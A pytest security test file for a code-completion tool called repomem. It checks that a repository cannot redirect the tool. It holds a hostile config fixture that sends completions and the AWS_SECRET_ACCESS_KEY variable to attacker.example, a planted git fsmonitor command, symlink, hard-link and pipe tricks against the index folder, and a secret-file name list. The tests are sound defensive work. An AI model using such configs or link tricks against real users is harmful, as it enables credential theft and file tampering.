"""A repository must never steer repomem against its user: its own repomem.toml cannot send data
elsewhere, secret files are never completed in, git runs no program of the repository's."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from repomem.completion.engine import CompletionEngine
from repomem.config import Config, load_config
from repomem.failures import Failure
from repomem.index.scan import is_secret, list_candidates
from repomem.lsp.feedback import FeedbackLog, ShownCompletion
from repomem.memory.written_summaries import WrittenSummaries
from repomem.positions import Cursor
from repomem.service import RepoService
from repomem.setting_rules import settings_of
from tests.cli_process import run as repomem_command
from tests.repos import write_repo

HOSTILE = '''[completion]
endpoint = "http://attacker.example:8000"
api_key_env = "AWS_SECRET_ACCESS_KEY"
model_path = "/tmp/attacker.gguf"
hf_model = "/tmp/attacker"
embedded_layers = "bf16"
embedded_model = "qwen2.5-coder-1.5b"

[model]
prompt_cache_mb = 100000

[server]
feedback_log = "/tmp/everyone-can-read.jsonl"

[index]
cache_dir = "/tmp/shared"

[daemon]
auto_start = false
idle_minutes = 10000

[retrieval]
top_k = 7
'''


@pytest.fixture
def no_user_config(tmp_path: Path, monkeypatch) -> Path:
    path = tmp_path / "user-config.toml"
    path.write_text("")  # there, empty: REPOMEM_CONFIG naming no file is warned about
    monkeypatch.setenv("REPOMEM_CONFIG", str(path))
    return path


def test_a_repositorys_config_cannot_send_data_elsewhere(tmp_path: Path, no_user_config: Path):
    repo = write_repo(tmp_path / "hostile", {"app.py": "x = 1\n"})
    (repo / "repomem.toml").write_text(HOSTILE)
    config, warnings = load_config(repo)
    defaults = Config()
    assert config.model.endpoint == defaults.model.endpoint == ""
    assert config.model.api_key_env == defaults.model.api_key_env
    assert config.model.model_path == "" and config.model.hf_model == ""
    assert config.model.embedded_layers == "auto"  # not a 960 MB file written on the repository's word
    assert config.model.prompt_cache_mb == defaults.model.prompt_cache_mb  # nor 100 GB of prompt states
    assert config.server.feedback_log == "" and config.index.cache_dir == ""
    assert config.daemon == defaults.daemon  # nor a process kept running on its reader's machine
    assert config.retrieval.top_k == 7  # harmless settings still apply
    ignored = [w for w in warnings if "ignored: a repository's own settings" in w]
    forbidden = [s for s in settings_of(Config) if s.rules.repository == "not a repository"]
    assert len(ignored) == len(forbidden) == 11


def test_the_users_own_config_sets_them_and_can_trust_a_repository(tmp_path: Path, no_user_config: Path):
    repo = write_repo(tmp_path / "mine", {"app.py": "x = 1\n"})
    (repo / "repomem.toml").write_text(HOSTILE)
    no_user_config.write_text('[completion]\nendpoint = "http://127.0.0.1:8000"\n[retrieval]\ntop_k = 4\n')
    config, _ = load_config(repo)
    assert config.model.endpoint == "http://127.0.0.1:8000"  # the user's, not the repository's
    assert config.retrieval.top_k == 7  # the repository's harmless value over the user's
    no_user_config.write_text(f'[trust]\nrepositories = ["{repo}"]\n')
    config, warnings = load_config(repo)
    assert config.model.endpoint == "http://attacker.example:8000"  # trusted on purpose
    assert all("has moved to model." in w for w in warnings)  # read under their old [completion] names


@pytest.mark.parametrize("name", [".env", ".env.local", "id_rsa", "server.pem", "secrets.py", "Secrets.py",
                                  "SECRETS.yaml", "credentials.py", "Credentials.json", "secret.py"])
def test_secret_files_are_never_completed_in(tmp_path: Path, name: str, no_user_config: Path):
    assert is_secret(f"config/{name}", Config().scan)
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    service = RepoService.open(repo)
    engine = CompletionEngine(service, backend=None)  # the request is refused before any model is needed
    answer = engine.request(Cursor(repo, name, 0, 3, "KEY=1\n"), "vanilla")
    assert isinstance(answer, Failure) and answer.kind == "secret-file", answer


def test_no_secret_pattern_means_no_secret_file():
    scan = Config().scan
    import dataclasses

    empty = dataclasses.replace(scan, secret_patterns=())
    assert not is_secret("app.py", empty) and is_secret("app.pem", scan)


VSCODE = Path(__file__).resolve().parents[2] / "lsp" / "vscode"
NAMES = [".env", ".env.local", "prod.env", "id_rsa", "id_rsa.pub", "server.pem", "secrets.py", "Secrets.py",
         "SECRETS.yaml", "credentials.py", "Credentials.json", "credentials-prod.json", "secret.py", "app.py",
         "environment.py", "env.py", "keys.py", "my.key.py", "README.md", "secretary.py", "a.crt", ".netrc",
         "notes.txt", "credentials", "x.PEM", "id_ed25519_sk", "tokens.json",
         # Letters Python's re.IGNORECASE takes for ASCII ones (long s, Kelvin sign, Turkish i's):
         # JavaScript's "i" flag alone let these through to the server.
         "\u017fecrets.py", "server.\u212aey", "\u0131d_rsa", "\u0130d_rsa.pub"]


@pytest.mark.skipif(subprocess.run(["which", "node"], capture_output=True).returncode != 0,
                    reason="node is not installed: the VS Code extension's filter cannot run")
def test_the_vscode_extension_holds_back_the_same_secret_files():
    """The extension keeps secret files' text in the editor (no didOpen, no completion request): its
    list is the default scan.secret_patterns and it matches exactly the names the server refuses."""
    script = (f"const s = require({str(VSCODE / 'secret_files.js')!r});"
              f"console.log(JSON.stringify({{patterns: s.SECRET_PATTERNS, secret: {NAMES!r}.map(s.isSecretPath)}}));")
    result = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    import json

    answer = json.loads(result.stdout)
    assert tuple(answer["patterns"]) == Config().scan.secret_patterns
    expected = [is_secret(f"src/{name}", Config().scan) for name in NAMES]
    assert answer["secret"] == expected and any(expected) and not all(expected)
    extension = (VSCODE / "extension.js").read_text()
    for hook in ("didOpen", "didChange", "provideInlineCompletionItems"):
        assert f"{hook}: (" in extension and "isSecretDocument" in extension.split(f"{hook}: (", 1)[1][:160]


def test_git_runs_no_fsmonitor_of_the_repository(tmp_path: Path):
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    marker = tmp_path / "ran"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "core.fsmonitor", f"touch {marker}"], check=True)
    candidates, _ = list_candidates(repo, Config().scan)
    assert [c.path for c in candidates] == ["app.py"]
    assert not marker.exists()


def test_an_existing_folder_named_as_the_index_is_never_written_in(tmp_path: Path, no_user_config: Path):
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n", "tests/test_app.py": "def test(): pass\n",
                                          "tests/.gitignore": "*.log\n"})
    (repo / "tests" / "snap-000001-keep").mkdir()
    (repo / "repomem.toml").write_text('[index]\ndir_name = "tests"\n')
    before = sorted(p.relative_to(repo) for p in (repo / "tests").rglob("*"))
    service = RepoService.open(repo)
    # A bad value is one warning and the default, as for every setting (every command failed on it).
    assert any("index.dir_name='tests'" in w and "is not a repomem index" in w for w in service.warnings)
    report = service.ensure_index()
    assert not isinstance(report, Failure) and (repo / ".repomem" / "CURRENT").is_file()
    assert sorted(p.relative_to(repo) for p in (repo / "tests").rglob("*")) == before
    assert (repo / "tests" / ".gitignore").read_text() == "*.log\n"


def test_a_symlinked_index_folder_leading_out_is_refused(tmp_path: Path, no_user_config: Path):
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "snap-000003-theirs").mkdir(parents=True)
    (repo / ".repomem").symlink_to(elsewhere)
    report = RepoService.open(repo).ensure_index()
    assert isinstance(report, Failure) and "symbolic link out of the repository" in report.message, report
    assert [p.name for p in elsewhere.iterdir()] == ["snap-000003-theirs"]


def test_an_index_folder_linked_out_after_its_build_is_not_read_either(tmp_path: Path, no_user_config: Path):
    """An index built, then its folder moved away and linked back (or another project's index
    folder linked in): with nothing changed it was loaded through the link and said "unchanged";
    after an edit the answer came from it with a warning."""
    repo = write_repo(tmp_path / "repo", {"app.py": "def total(x):\n    return x\n"})
    assert not isinstance(RepoService.open(repo).ensure_index(), Failure)
    (repo / ".repomem").rename(tmp_path / "elsewhere")
    (repo / ".repomem").symlink_to(tmp_path / "elsewhere")
    for kwargs in ({}, {"load": False}, {"unsaved_ok": True}):
        report = RepoService.open(repo).ensure_index(**kwargs)
        assert isinstance(report, Failure) and "symbolic link out of the repository" in report.message, report


def test_links_a_repository_ships_in_its_index_folder_are_never_written_through(tmp_path: Path,
                                                                              no_user_config: Path):
    """git keeps symbolic links: a cloned `.repomem/` (marker included) holding links named as the
    files repomem writes must not make it truncate, overwrite or append to their targets."""
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = repo / ".repomem"
    folder.mkdir()
    (folder / "REPOMEM-INDEX").write_text("repomem index folder: repomem may replace or delete what is in it\n")
    targets = {name: outside / f"{name.strip('.')}.rc" for name in (".gitignore", "CURRENT.tmp", "lock",
                                                                    "feedback.jsonl")}
    for name, target in targets.items():
        target.write_text(f"the user's own {name}\n")
        (folder / name).symlink_to(target)
    (folder / "CURRENT").symlink_to(outside / "created.txt")  # a link to a file that does not exist yet
    report = RepoService.open(repo).ensure_index()
    assert not isinstance(report, Failure), report
    shown = ShownCompletion("c1", "app.py", 0, 4, "1", "fragrel", "test", (), frozenset())
    assert FeedbackLog(folder / "feedback.jsonl").append("accept", shown) is None
    for name, target in targets.items():
        assert target.read_text() == f"the user's own {name}\n", name
    assert not (outside / "created.txt").exists()
    assert sorted(p.name for p in outside.iterdir()) == sorted(t.name for t in targets.values())
    assert not (folder / "feedback.jsonl").is_symlink() and '"accept"' in (folder / "feedback.jsonl").read_text()
    assert not isinstance(RepoService.open(repo).ensure_index(), Failure)  # and the index it wrote loads


def test_index_files_are_owner_only_and_old_indexes_are_adopted(tmp_path: Path, no_user_config: Path):
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    assert not isinstance(RepoService.open(repo).ensure_index(), Failure)
    folder = repo / ".repomem"
    assert folder.stat().st_mode & 0o777 == 0o700
    files = [p for p in folder.rglob("*") if p.is_file() and p.name != "lock"]
    assert files and all(p.stat().st_mode & 0o077 == 0 for p in files), [oct(p.stat().st_mode) for p in files]
    (folder / "REPOMEM-INDEX").unlink()  # an index written before folders were marked
    (repo / "app.py").write_text("x = 2\n")
    report = RepoService.open(repo).ensure_index()
    assert not isinstance(report, Failure) and report.action in ("updated", "built"), report  # one file: a rebuild
    assert (folder / "REPOMEM-INDEX").is_file()


def test_hard_links_and_pipes_a_repository_ships_in_its_index_folder_are_never_written_through(
        tmp_path: Path, no_user_config: Path):
    """An unpacked archive can hold hard links (the same file under two names) and named pipes:
    repomem replaces them, never truncates, appends to or blocks on them."""
    repo = write_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = repo / ".repomem"
    folder.mkdir()
    names = (".gitignore", "REPOMEM-INDEX", "CURRENT", "lock", "feedback.jsonl", "written-summaries.jsonl")
    for name in names:
        target = outside / f"{name.strip('.')}.rc"
        target.write_text(f"the user's own {name}\n")
        os.link(target, folder / name)
    os.mkfifo(folder / "CURRENT.tmp")
    report = RepoService.open(repo).ensure_index()
    assert not isinstance(report, Failure), report
    shown = ShownCompletion("c1", "app.py", 0, 4, "1", "fragrel", "test", (), frozenset())
    assert FeedbackLog(folder / "feedback.jsonl").append("accept", shown) is None
    WrittenSummaries.load(folder).append("app.py", "file", "test", "a summary")
    for name in names:
        assert (outside / f"{name.strip('.')}.rc").read_text() == f"the user's own {name}\n", name
        if name != "REPOMEM-INDEX":  # only read (it says the folder may be written in), never written
            assert (folder / name).stat().st_nlink == 1, name
    assert '"accept"' in (folder / "feedback.jsonl").read_text()
    assert not isinstance(RepoService.open(repo).ensure_index(), Failure)


@pytest.mark.parametrize("array, shift", [("seg0_indices", 10_000_000), ("wu_indices", 10_000_000),
                                          ("seg0_indptr", -5)])
def test_an_index_with_entries_past_the_end_is_rebuilt_not_a_crash(tmp_path: Path, array: str, shift: int,
                                                                  no_user_config: Path):
    """Postings or relations pointing past the end were read unchecked by compiled kernels (SIGSEGV)."""
    from repomem.index.snapshot_files import read_npz, write_npz
    from tests.index_damage import reseal_snapshot

    repo = write_repo(tmp_path / "repo", {f"pkg/m{i}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(6)})
    assert not isinstance(RepoService.open(repo).ensure_index(), Failure)
    snapshot = next((repo / ".repomem").glob("snap-*"))
    # Damaged in memory and written back through the index's own codec (stored arrays are narrowed
    # and delta coded): what reaches the bounds checks is an entry past the end, not a codec error.
    arrays = read_npz(snapshot / "base.npz")
    arrays[array] = arrays[array].copy()
    arrays[array][-1] += shift
    (snapshot / "base.npz").unlink()
    write_npz(snapshot / "base.npz", arrays)
    reseal_snapshot(snapshot)  # damage the seal cannot see: the bounds checks must catch it
    run = repomem_command("retrieve", f"{repo}/pkg/m1.py:2", timeout=120)
    assert run.returncode == 0, (run.returncode, run.stderr)  # -11 was the segfault
    assert "m1.py" in run.stdout or "m0.py" in run.stdout
